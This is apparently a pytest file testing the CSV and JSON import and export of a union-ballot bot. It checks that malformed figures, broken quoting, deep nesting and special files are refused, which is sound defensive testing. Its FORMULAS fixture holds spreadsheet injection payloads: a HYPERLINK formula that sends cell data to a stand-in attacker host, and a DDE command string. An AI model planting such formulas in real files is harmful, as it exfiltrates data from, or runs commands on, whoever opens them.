"""Files a careless spreadsheet or an attacker would send: refused whole, with row and column."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from pathlib import Path

import pytest

from bot.columns import MAX_QUESTIONS
from bot.domain import Ballot, Kind, PartialDate, Question
from bot.imports.exports import export_ballots
from bot.imports.files import ImportRejected, import_file, parse_csv, parse_json, read_ballots
from tests.bot.conftest import Chat

HEADER = "id,unions,employer,kind,question,eligible,votes_for,votes_against,turnout_pct,closes"
ROW = "leeds-1,GMB,Leeds City Council,strike,Strike?,1000,400,200,60,2024-02"


def refusal(text: str, parse=parse_csv) -> ImportRejected:  # type: ignore[no-untyped-def]
    with pytest.raises(ImportRejected) as refused:
        parse(text)
    return refused.value


def only_problem(text: str) -> tuple[str, str, str]:
    (problem,) = refusal(text).errors
    return problem.where, problem.column, problem.message


@pytest.mark.parametrize(
    ("cell", "column", "value", "why"),
    [
        ("votes_for", "votes_for", "12,5", "not a whole number"),  # was stored as 125
        ("votes_for", "votes_for", "1,552¹", "not a whole number"),  # was a bare ValueError
        ("votes_for", "votes_for", "--5", "not a whole number"),  # was a bare ValueError
        ("votes_against", "votes_against", "²", "not a whole number"),
        ("votes_against", "votes_against", "١٠", "not a whole number"),
        ("eligible", "eligible", str(10**30), "electorate"),  # reached the driver
        ("eligible", "eligible", "9" * 400, "electorate"),
        ("eligible", "eligible", "10,000,001", "electorate"),
        ("votes_for", "votes_for", "1001", "entitled"),  # above the electorate of 1,000
        ("turnout_pct", "turnout_pct", "0.6", "did you mean 60%?"),  # was stored as 0.6%
        ("turnout_pct", "turnout_pct", "nan", "not a percentage"),
        ("turnout_pct", "turnout_pct", "1e400", "not a percentage"),
        ("closes", "closes", "2024-00", "month 00"),  # was stored as 2024
        ("closes", "closes", "2099-12-00", "day 0"),  # failed only at the write
        ("closes", "closes", "2024-13", "month 13"),
    ],
)
def test_a_figure_or_date_that_could_be_misread_is_refused_with_its_row_and_column(
    cell: str, column: str, value: str, why: str
) -> None:
    header = HEADER.split(",")
    bad = ROW.replace("leeds-1", "york-1").split(",")
    bad[header.index(cell)] = f'"{value}"'
    where, named, message = only_problem(f"{HEADER}\n{ROW}\n{','.join(bad)}\n")
    assert (where, named) == ("row 3", column)
    assert why in message


def test_a_turnout_really_under_one_percent_is_written_with_its_sign() -> None:
    (ballot,) = parse_csv(f"{HEADER}\n{ROW.replace(',60,', ',0.6%,')}\n")
    assert ballot.questions[0].result.turnout_pct == 0.6


def test_an_unterminated_quote_no_longer_swallows_the_rows_after_it() -> None:
    text = (
        f"{HEADER},notes\n"
        f'{ROW},"Said at the gate: ""we will win""\n'
        f"{ROW.replace('leeds-1', 'york-1')},\n"
        f"{ROW.replace('leeds-1', 'hull-1')},\n"
    )
    where, column, message = only_problem(text)
    assert where == "row 2" and column == "(row)"
    assert "quote" in message and "line 2" in message and "never closed" in message


def test_a_quote_closed_in_the_wrong_place_is_refused() -> None:
    text = f'{HEADER},notes\n{ROW},"oops\n{ROW.replace("leeds-1", "york-1")},x"y\n'
    where, column, message = only_problem(text)
    assert where == "row 2" and column == "(row)" and "quote" in message


def test_a_note_with_line_breaks_in_quotes_is_still_one_row() -> None:
    other = ROW.replace("leeds-1", "b")
    text = f'{HEADER},notes\n{ROW},"First line\nsecond ""quoted"" line"\n{other},\n'
    first, second = parse_csv(text)
    assert first.notes == 'First line\nsecond "quoted" line'
    assert second.id == "b"


def test_a_repeated_header_column_is_refused_not_silently_the_last() -> None:
    where, column, message = only_problem(f"{HEADER},votes_for\n{ROW},1\n")
    assert (where, column) == ("row 1", "votes_for")
    assert "more than once" in message


def test_a_cell_over_its_columns_limit_names_row_and_column_not_the_csv_module() -> None:
    text = f"{HEADER},notes\n{ROW},\n{ROW.replace('leeds-1', 'y')},{'x' * 200_000}\n"
    where, column, message = only_problem(text)
    assert (where, column) == ("row 3", "notes")
    assert "200,000 characters is too long (at most 2,000)" in message
    assert "field limit" not in message


def test_more_questions_than_a_ballot_may_have_are_refused_naming_the_row() -> None:
    rows = [ROW.replace("Strike?", f"Question {n}?") for n in range(MAX_QUESTIONS + 1)]
    where, column, message = only_problem("\n".join([HEADER, *rows]) + "\n")
    assert where == f"row {MAX_QUESTIONS + 2}" and column == "id"
    assert f"more than the {MAX_QUESTIONS}" in message
    assert len(parse_csv("\n".join([HEADER, *rows[:MAX_QUESTIONS]]) + "\n")[0].questions) == 20


def test_a_new_ballot_id_with_spaces_is_refused() -> None:
    where, column, message = only_problem(f"{HEADER}\n{ROW.replace('leeds-1', 'leeds 1')}\n")
    assert (where, column) == ("row 2", "id") and "letters, digits" in message


@pytest.mark.parametrize("url", ["https://", "https://host/strike vote", "ftp://x.org/r"])
def test_a_source_url_must_be_a_well_formed_web_address(url: str) -> None:
    where, column, message = only_problem(f"{HEADER},source_url\n{ROW},{url}\n")
    assert (where, column) == ("row 2", "source_url") and "web address" in message


def _json(**question: object) -> str:
    ballot = {"id": "x", "unions": ["GMB"], "employer": "E", "eligible": 1000}
    ballot["questions"] = [{"question": "Q?", "kind": "strike", **question}]
    return json.dumps({"ballots": [ballot]})


@pytest.mark.parametrize(
    ("text", "column", "why"),
    [
        (_json(votes_for=10**30), "votes_for", "electorate"),
        (_json(votes_for=3.0), "votes_for", "not a whole number"),
        (_json(turnout_pct=0.6), "turnout_pct", "did you mean 60%?"),
        (_json(turnout_pct=float("nan")), "turnout_pct", "not a percentage"),
        (
            _json(turnout_pct=1).replace('"turnout_pct": 1', '"turnout_pct": 1e400'),
            "turnout_pct",
            "",
        ),
        (
            _json(votes_for=1).replace('"votes_for": 1', '"votes_for": 1' + "0" * 5000),
            "votes_for",
            "",
        ),
        (_json(question=5), "question", "expected text, got the number 5"),
    ],
)
def test_json_numbers_go_through_the_same_strict_parsers(text: str, column: str, why: str) -> None:
    (problem,) = refusal(text, parse_json).errors
    assert problem.where == "ballot 1 question 1" and problem.column == column
    assert why in problem.message


def test_json_nested_5000_deep_is_refused_clearly_not_with_recursion_error() -> None:
    for text in ("[" * 5000 + "]" * 5000, '{"ballots": ' + "[" * 5000 + "]" * 5000 + "}"):
        (problem,) = refusal(text, parse_json).errors
        assert "nested" in problem.message and "levels deep" in problem.message


def test_json_with_a_field_given_twice_is_refused() -> None:
    text = _json(votes_for=1).replace('"votes_for": 1', '"votes_for": 1, "votes_for": 900')
    (problem,) = refusal(text, parse_json).errors
    assert problem.column == "'votes_for'" and "twice" in problem.message


def test_json_with_more_questions_than_a_ballot_may_have_is_refused() -> None:
    document = json.loads(_json())
    document["ballots"][0]["questions"] *= MAX_QUESTIONS + 1
    (problem,) = refusal(json.dumps(document), parse_json).errors
    assert problem.where == "ballot 1" and problem.column == "questions"


def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    fifo = tmp_path / "ballots.csv"
    os.mkfifo(fifo)
    started = time.monotonic()
    with pytest.raises(ImportRejected, match="not a regular file"):
        read_ballots(fifo)
    assert time.monotonic() - started < 2


def test_a_device_behind_a_csv_name_is_refused_without_reading_it(tmp_path: Path) -> None:
    zero = tmp_path / "zero.csv"
    zero.symlink_to("/dev/zero")
    with pytest.raises(ImportRejected, match="not a regular file"):
        read_ballots(zero)


def test_a_folder_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "ballots.json"
    folder.mkdir()
    with pytest.raises(ImportRejected, match="folder"):
        read_ballots(folder)


def test_the_size_is_checked_before_reading(tmp_path: Path) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as file:
        file.truncate(64 * 2**30)  # a sparse 64 GiB file: reading it would take minutes
    started = time.monotonic()
    with pytest.raises(ImportRejected, match="larger than 20 MiB"):
        read_ballots(huge)
    assert time.monotonic() - started < 2


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Official results")',
    "+44 113 222 3333",
    "-5% pay cut",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''=twice quoted",
    "'Tis the season",
    "＝1+1",
)


async def test_export_writes_formulas_as_text_and_import_reads_them_back_unchanged(
    chat: Chat, tmp_path: Path
) -> None:
    rows = [
        f'f-{n},"{formula.replace(chr(34), chr(34) * 2)}",Employer {n},strike,Strike?,,,,,,'
        f'"{formula.replace(chr(34), chr(34) * 2)}"'
        for n, formula in enumerate(FORMULAS)
    ]
    source = tmp_path / "in.csv"
    source.write_text("\n".join([f"{HEADER},notes", *rows]) + "\n")
    # A hand-made file may quote a formula the same way: the quote is dropped on the way in.
    assert {b.notes for b in read_ballots(source)} == {
        f[1:] if f.startswith("'") and f[1] in "=+-@'" else f for f in FORMULAS
    }
    imported = read_ballots(source)
    await chat.app.store.save(imported)

    exported = await export_ballots(chat.app.store, "csv")

    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    again = tmp_path / "again.csv"
    again.write_text(exported)
    await import_file(chat.app.store, again)
    assert sorted(parse_csv(exported), key=lambda b: b.id) == sorted(
        await chat.app.store.all_ballots(), key=lambda b: b.id
    )
    by_id = {b.id: b for b in await chat.app.store.all_ballots()}
    for ballot in imported:
        assert by_id[ballot.id].notes == ballot.notes
        assert by_id[ballot.id].unions == ballot.unions


@pytest.mark.parametrize("fmt", ["csv", "json"])
async def test_a_turnout_under_one_percent_survives_export_and_import(chat: Chat, fmt: str) -> None:
    (ballot,) = parse_csv(f"{HEADER}\n{ROW.replace(',60,', ',0.350%,')}\n")
    await chat.app.store.save([ballot])

    text = await export_ballots(chat.app.store, fmt)  # type: ignore[arg-type]
    parsed = parse_csv(text) if fmt == "csv" else parse_json(text)

    (again,) = [b for b in parsed if b.id == "leeds-1"]
    assert again.questions[0].result.turnout_pct == 0.35
    if fmt == "csv":  # written as it was reported, to three decimals
        assert ",0.350%," in text
    assert again.closes == PartialDate(2024, 2)


async def test_a_ballot_stored_before_the_id_rule_can_be_imported_again(
    chat: Chat, tmp_path: Path
) -> None:
    old = Ballot("old id", ("GMB",), "Old Employer", (Question("Strike?", Kind.STRIKE),))
    await chat.app.store.save([old])
    path = tmp_path / "again.csv"
    path.write_text(
        "id,unions,employer,kind,question,votes_for,votes_against\n"
        '"old id",GMB,Old Employer,strike,Strike?,10,2\n'
    )

    report = await import_file(chat.app.store, path)

    assert report.updated == 1
    stored = await chat.app.store.get("old id")
    assert stored is not None and stored.questions[0].result.votes_for == 10
    path.write_text(path.read_text().replace("old id", "new id"))
    with pytest.raises(ImportRejected, match="not a ballot id"):
        await import_file(chat.app.store, path)
